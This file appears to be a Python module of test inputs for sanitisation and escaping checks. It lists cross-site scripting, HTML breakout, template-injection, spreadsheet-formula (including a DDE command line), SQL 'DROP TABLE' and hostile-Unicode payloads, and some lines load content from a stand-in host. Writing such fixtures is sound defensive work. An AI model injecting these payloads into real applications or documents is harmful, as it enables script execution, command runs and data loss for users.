"""Texts that an attacker, or an unlucky paste, puts where a name, a note or a source belongs. Each that runs sets `window.hit`."""

from __future__ import annotations

_RUN = "window.hit=1"
_OUT = "https://example.org/x"

SCRIPT = (
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src={_OUT}.js></script>",
    f"<<script>{_RUN}//<</script>", f"<script\x0c>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script>{_RUN}",
    f"<!--><script>{_RUN}</script>-->", f"<![CDATA[<script>{_RUN}</script>]]>", f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
)  # fmt: skip
BREAKOUTS = (
    f"</style></title></textarea><script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"\"><script>{_RUN}</script>",
    f"'><script>{_RUN}</script>", f"'\" onmouseover={_RUN} x='", f"\" autofocus onfocus=\"{_RUN}", f"--></svg><script>{_RUN}</script>",
    f"</text></svg><script>{_RUN}</script>", f"</td></tr></table></main><script>{_RUN}</script>", f"`;{_RUN};`", f"\\\";{_RUN};//",
    f"</li></ul></nav><img src=x onerror={_RUN}>",
)  # fmt: skip
HANDLERS = (
    f"<img src=x onerror='{_RUN}'>", f"<img src=x onerror={_RUN}//", f"<IMG SRC=`javascript:{_RUN}`>", f"<svg onload='{_RUN}'></svg>", f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>#x'/></svg>", "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'/></foreignObject></svg>",
    f"<body onload={_RUN}>", f"<details open ontoggle='{_RUN}'>x</details>", f"<input autofocus onfocus={_RUN}>", f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<div style='animation-name:x' onanimationstart={_RUN}>", f"<p onpointerenter={_RUN}>x</p>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>", f"<select onfocus={_RUN} autofocus><option>x</select>",
)  # fmt: skip
FRAMES_AND_LINKS = (
    f"<a href='javascript:{_RUN}'>x</a>", f"<a href='java\tscript:{_RUN}'>x</a>", f"<a href='&#106;avascript:{_RUN}'>x</a>", f"<a href=data:text/html,<script>{_RUN}</script>>x</a>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", f"<iframe src='javascript:parent.{_RUN}'></iframe>", f"<object data='{_OUT}'></object>", f"<embed src={_OUT}>",
    f"<base href='{_OUT}/'>", f"<meta http-equiv=refresh content='0;url={_OUT}'>", f"<link rel=stylesheet href={_OUT}.css>", f"<form action={_OUT}><button>x</button></form>",
    "<a href='../../../secret.html'>x</a>", "<a href='//example.org' target=_blank>x</a>", f"<img srcset='{_OUT}.png 1x'>", f"<audio src={_OUT}.mp3 autoplay>",
)  # fmt: skip
STYLES = (
    f"<style>@import '{_OUT}.css'</style>", f"<p style='background:url({_OUT}.png)'>x</p>", "<style>*{display:none}</style>", f"\"; }} @import url({_OUT}.css); .x {{ content: \"",
    "<p style='position:fixed;inset:0;z-index:99'>x</p>", f"</style><script>{_RUN}</script><style>",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{_RUN})", f"[x]({_OUT})", f"![x]({_OUT}.png)", f"![x](x.png\"onerror=\"{_RUN})", f"<javascript:{_RUN}>", f"[x]: javascript:{_RUN}", "# a heading of its own",
    "| a | b |\n|---|---|\n| c | d |", f"```\n</code></pre><script>{_RUN}</script>\n```", f"**<img src=x onerror={_RUN}>**", "$$\\href{javascript:window.hit=1}{x}$$",
)  # fmt: skip
EXPRESSIONS = (
    f"{{{{ constructor.constructor('{_RUN}')() }}}}", "{% for x in [].__class__.__base__.__subclasses__() %}x{% endfor %}", "{{ 7 * 191 }}", f"${{{_RUN}}}", f"<%= {_RUN} %>", "{value.__class__.__init__.__globals__}", "%(x)s %s %n",
    f"datum.constructor.constructor('{_RUN}')()", f"{{\"signal\": \"{_RUN}\"}}", f"{{\"expr\": \"{_RUN}\", \"href\": \"{_OUT}\"}}", "datum['x'] + warn('hit')", "@PAGE@ @MARK@ \\3c script\\3e",
)  # fmt: skip
FORMULAS = (
    f"=HYPERLINK(\"{_OUT}\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", f"=WEBSERVICE(\"{_OUT}\")", "＝1+1", "\t=1+1", "'; DROP TABLE observations; --",
)  # fmt: skip
CHARACTERS = (
    "a\u202egnp.exe\u202c b", "\u2066isolate\u2069 \u200e\u200f", "zero\u200bwidth\u200d\ufeff\u2060", "line\u2028separator\u2029paragraph", "null\x00 bell\x07 escape\x1b[31m", "\ufffe\uffff\ud7ff",
    "Zalgo h\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "e\u0301 \u1ebf", "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;", "%3Cscript%3Ewindow.hit=1%3C/script%3E", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 \U000e0001",
    "..\\..\\CON", "a\r\nb\tc", "W" * 2000, "từ " * 400,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *SCRIPT, *BREAKOUTS, *HANDLERS, *FRAMES_AND_LINKS, *STYLES, *MARKDOWN, *EXPRESSIONS, *FORMULAS, *CHARACTERS,
)  # fmt: skip
